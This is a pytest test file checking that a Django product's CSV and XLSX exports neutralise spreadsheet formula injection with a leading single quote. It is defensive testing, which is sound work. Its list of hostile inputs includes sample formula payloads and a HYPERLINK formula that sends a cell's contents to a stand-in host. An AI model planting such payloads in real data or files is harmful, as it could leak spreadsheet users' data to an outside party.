"""Text that a spreadsheet would run as a formula (CSV injection) is written inert.

Every CSV the product writes neutralises text cells that start with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return (the OWASP rule: a leading single quote), through one helper;
numbers, negative ones included, stay numbers. The XLSX export writes text cells as strings,
never as formulas.
"""

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from campaigns.review_choices import RecognitionStatus
from registry import workflow
from tests import factories
from tests.campaigns.factories import make_donation
from tests.campaigns.factories_reviews import make_recognition
from wardmodels.opendata.datasets import DATASETS, Column, Dataset
from wardmodels.opendata.writers import csv_chunks
from wardmodels.spreadsheets import formula_safe

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What an attacker types where text goes, and what every CSV must hold instead.
HOSTILE = {
    "=1+1": "'=1+1",
    "+1+2": "'+1+2",
    "-2+3": "'-2+3",
    "@SUM(A1:A2)": "'@SUM(A1:A2)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1;"Bấm")': '\'=HYPERLINK("http://x.example/?"&A1;"Bấm")',
}


@pytest.mark.parametrize(("typed", "written"), [*HOSTILE.items(), ("Đường hoa", "Đường hoa")])
def test_the_helper_prefixes_a_quote_to_text_that_starts_like_a_formula(typed, written):
    assert formula_safe(typed) == written


@pytest.mark.parametrize("number", [-5, -2.5, Decimal("-3.5"), 0, 310_000_000, None, True])
def test_the_helper_leaves_numbers_and_other_values_alone(number):
    assert formula_safe(number) is number


def test_only_the_helper_makes_a_csv_writer():
    """A new CSV writer must go through it: no product module calls ``csv.writer`` itself."""
    product = [
        p
        for app in ("registry", "participation", "campaigns", "wardmodels")
        for p in (ROOT / app).rglob("*.py")
        if "migrations" not in p.parts
    ]
    callers = sorted(
        str(p.relative_to(ROOT))
        for p in product
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    )
    assert callers == ["wardmodels/spreadsheets.py"]


@pytest.fixture
def hostile_model(committee_member):
    """A public model whose every text that reaches a file starts like a formula."""
    model = factories.make_initiative(
        "=1+1",
        code="DVK-2023-01",
        started_on=date(2023, 3, 1),
        location="@SUM(A1:A2)",
        lead_organization=factories.make_organization("+1+2"),
    )
    model.residential_areas.add(factories.make_area("\t=1+1"))
    model.indicators.create(label="-2+3", unit="\r=1+1", target=Decimal("3.5"), actual=2)
    make_recognition(model, status=RecognitionStatus.PUBLISHED, decision_number="=1+1")
    editor = factories.make_user("congbo-cong-thuc", is_superuser=True)
    milestone = factories.make_published_milestone(
        model, by=editor, title="=1+1", body="@SUM(A1:A2)", occurred_on=date(2023, 4, 10)
    )
    workflow.milestone_withdraw(milestone=milestone, by=editor, reason="-2+3")
    make_donation(initiative=model, amount=1_000_000, received_on=date(2023, 3, 2))
    return model


def _csv(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _text_cells(rows: list[list[str]], columns: list[int]) -> list[str]:
    return [row[i] for row in rows[1:] for i in columns]


def test_no_open_data_csv_has_a_text_cell_a_spreadsheet_would_run(client, hostile_model):
    seen = set()
    for name, dataset in DATASETS.items():
        rows = _csv(client.get(reverse("public:opendata-file", args=[name, "csv"])))
        assert rows[0] == dataset.column_names and len(rows) > 1, name
        text = [i for i, c in enumerate(dataset.columns) if c.type == "string"]
        cells = _text_cells(rows, text)
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name
        seen.update(c for c in cells if c in HOSTILE.values())
    # Each hostile text was written (neutralised), so the loop above proves something.
    assert seen == {"'=1+1", "'+1+2", "'-2+3", "'@SUM(A1:A2)", "'\t=1+1", "'\r=1+1"}


def test_numbers_in_the_open_data_stay_numbers_and_text_beside_them_is_neutralised(
    client, hostile_model
):
    rows = _csv(client.get(reverse("public:opendata-file", args=["indicators", "csv"])))
    header, row = rows[0], rows[1]
    assert (row[header.index("target")], row[header.index("actual")]) == ("3.5", "2")
    assert (row[header.index("label")], row[header.index("unit")]) == ("'-2+3", "'\r=1+1")


def test_the_open_data_writer_keeps_a_negative_number_a_number_and_quotes_text_only():
    """No stored figure is negative today (amounts and indicators are checked), but a column
    typed as a number must parse as one whatever its sign: only text cells are touched."""
    dataset = Dataset(
        name="probe",
        title="probe",
        description="probe",
        columns=(Column("amount", "integer", "n"), Column("label", "string", "t")),
        rows=lambda absolute: iter([{"amount": -5, "label": "-5"}]),
        count=lambda: 1,
        last_changed=lambda: None,
    )
    text = b"".join(csv_chunks(dataset, str)).decode("utf-8-sig")
    assert text.splitlines() == ["amount,label", "-5,'-5"]


def test_the_workspace_model_list_csv_neutralises_formulas(official_client, hostile_model):
    response = official_client.get(reverse("workspace:report-csv") + "?period=year&year=2023")
    rows = _csv(response)
    row = next(r for r in rows[1:] if r[0] == "DVK-2023-01")
    assert row[1] == "'=1+1"  # the title
    assert row[7] == "'+1+2"  # the lead organisation
    assert row[-5:] == ["0", "1000000", "0", "0", "0"]  # numbers as numbers
    assert not [c for c in row if c.startswith(FORMULA_STARTS)]


def test_the_xlsx_export_writes_text_cells_as_strings_never_formulas(
    official_client, hostile_model
):
    response = official_client.get(reverse("workspace:report-xlsx") + "?period=year&year=2023")
    raw = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = {n: book.read(n).decode() for n in sheets}
        strings = (
            book.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in (book.namelist())
            else ""
        )
    assert sheets and not [n for n, text in xml.items() if "<f>" in text or "<f " in text]
    # The title is kept as typed, as text (XLSX has no formula risk for a string cell).
    assert "=1+1" in strings or any("=1+1" in text for text in xml.values())


def test_the_open_data_column_dictionary_and_datapackage_state_the_rule(client):
    page = client.get(reverse("public:opendata")).content.decode()
    assert "được thêm một dấu nháy đơn (&#x27;) ở đầu" in page
    assert "Cột số (kể cả số âm)" in page
    package = client.get(reverse("public:opendata-datapackage")).json()
    assert "dấu nháy đơn (') ở đầu" in package["description"]
    assert "single quote" in package["description_en"]
